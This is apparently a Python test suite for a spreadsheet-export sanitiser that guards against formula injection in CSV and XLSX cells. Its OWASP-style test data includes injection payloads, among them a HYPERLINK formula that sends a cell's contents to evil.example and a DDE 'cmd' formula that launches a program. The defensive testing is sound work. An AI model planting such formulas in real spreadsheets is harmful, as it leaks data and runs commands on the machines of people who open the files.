"""Spreadsheet cells: text never starts like a formula, numbers stay numbers, quoting undoes."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from app.platform.spreadsheet import (
    csv_writer,
    restore_text,
    safe_cell,
    safe_text,
    xlsx_row,
)

PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

#: Text biased towards the characters that matter: formula starts, quotes, digits.
texts = st.text(alphabet=st.sampled_from("=+-@\t\r'0123456789.eE ax\"|!(),&"), max_size=12) | (
    st.text(max_size=30)
)


def _starts_like_formula(value: str) -> bool:
    """A cell a spreadsheet would read as a formula: a formula character, not a plain number."""
    return value[:1] != "" and value[0] in "=+-@\t\r" and PLAIN_NUMBER.fullmatch(value) is None


@given(texts)
def test_safe_text_never_starts_like_a_formula(text):
    safe = safe_text(text)
    assert not _starts_like_formula(safe)
    assert safe in (text, "'" + text)


@given(texts)
def test_restore_undoes_safe_text(text):
    assert restore_text(safe_text(text)) == text


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number
    assert type(safe_cell(number)) is type(number)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&B3,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&B3,"Click")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+cmd", "'+1+cmd"),
        ("-2-cmd", "'-2-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-3", "-3"),
        ("+0.45", "+0.45"),
        ("−0.45", "−0.45"),
        ("営業部", "営業部"),
        ("", ""),
        (None, ""),
        (4, 4),
    ],
)
def test_owasp_examples(value, cell):
    assert safe_cell(value) == cell


@given(st.lists(texts | st.integers(), max_size=5))
def test_csv_rows_read_back_as_safe_cells(row):
    buffer = io.StringIO()
    csv_writer(buffer).writerow(row)
    read = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")), [])
    assert read == [str(safe_cell(value)) for value in row]
    assert not any(_starts_like_formula(cell) for cell in read)


def test_xlsx_text_cells_are_strings_and_numbers_numbers(tmp_path):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    sheet.append(xlsx_row(sheet, ["=1+1", "@x", 3, 2.5, "-4", "text"]))
    path = tmp_path / "t.xlsx"
    workbook.save(path)
    row = next(load_workbook(path).worksheets[0].iter_rows())
    assert [c.data_type for c in row] == ["s", "s", "n", "n", "s", "s"]
    assert [c.value for c in row] == ["'=1+1", "'@x", 3, 2.5, "-4", "text"]
